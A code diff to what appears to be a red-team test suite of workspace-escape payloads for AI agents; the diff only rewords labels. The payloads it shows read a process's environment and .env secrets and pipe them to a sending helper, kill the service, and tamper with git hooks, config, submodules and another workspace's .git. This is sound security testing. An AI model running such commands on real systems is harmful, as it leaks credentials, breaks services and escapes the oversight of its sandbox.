@@ -40,8 +40,8 @@ function tampers(folder: string): string {
 /** Code that runs where it should not, or more than was meant. */
 export const escapes: readonly Payload[] = [
   {
-    ...{ risk: 'ASI05', kind: 'escape from the workspace', channel: 'a command' },
-    tried: 'write by `..`, absolute paths, links, `/proc/1/root`, mounts and namespaces',
+    ...{ risk: 'ASI05', kind: 'escape', channel: 'a command' },
+    tried: 'write outside: links, `/proc`, mounts, namespaces, `crontab`',
     plant: (place) => {
       const note = join(place.base, 'beside', 'note.txt');
       const away = [
@@ -57,8 +57,8 @@ export const escapes: readonly Payload[] = [
     },
   },
   {
-    ...{ risk: 'ASI05', kind: 'escape from the workspace', channel: 'a command' },
-    tried: 'kill, trace or read the process of the service',
+    ...{ risk: 'ASI05', kind: 'escape', channel: 'a command' },
+    tried: 'read, kill the service',
     plant: (place) =>
       shell(
         `cat /proc/${process.pid}/environ /proc/${process.pid}/cwd/.env | ${sends(place)}; kill -9 ${process.pid}`,
@@ -66,7 +66,7 @@ export const escapes: readonly Payload[] = [
   },
   {
     ...{ risk: 'ASI05', kind: 'hooks of the repository', channel: 'a command' },
-    tried: 'write hooks, `config`, `commondir` and `.husky`, move `.git`',
+    tried: 'change or move `.git`, `.husky`',
     plant: (place) => {
       git(place, 'init', '-q');
       return shell(`(${tampers('.git')}; mkdir -p .husky; echo x > .husky/pre-commit) 2>/dev/null`);
@@ -77,8 +77,8 @@ export const escapes: readonly Payload[] = [
     },
   },
   {
-    ...{ risk: 'ASI05', kind: 'hooks of a nested repository', channel: 'a command' },
-    tried: 'the same in a repository inside the workspace and in a submodule',
+    ...{ risk: 'ASI05', kind: 'hooks of nested repositories', channel: 'a command' },
+    tried: 'the same there and in submodules',
     plant: (place) => {
       git(place, 'init', '-q');
       git(place, 'init', '-q', 'libs/nested');
@@ -95,8 +95,8 @@ export const escapes: readonly Payload[] = [
     },
   },
   {
-    ...{ risk: 'ASI05', kind: 'programs of a repository', channel: 'configuration of `.git`' },
-    tried: 'run hooks, filters and drivers by the git tool',
+    ...{ risk: 'ASI05', kind: 'programs of a repository', channel: '`.git/config`' },
+    tried: 'run hooks, filters, drivers',
     plant: async (place) => {
       const pwn = pwns(place);
       git(place, 'init', '-q');
@@ -121,8 +121,8 @@ export const escapes: readonly Payload[] = [
     },
   },
   {
-    ...{ risk: 'ASI05', kind: 'hostile `.git`', channel: 'a folder from an archive' },
-    tried: 'read and commit to another floor by `commondir` and `alternates`',
+    ...{ risk: 'ASI05', kind: 'hostile `.git`', channel: '`commondir`, `alternates`' },
+    tried: 'reach another floor',
     plant: (place) => {
       const elsewhere = join(place.office.otherFloor.path, '.git');
       git(place, 'init', '-q');
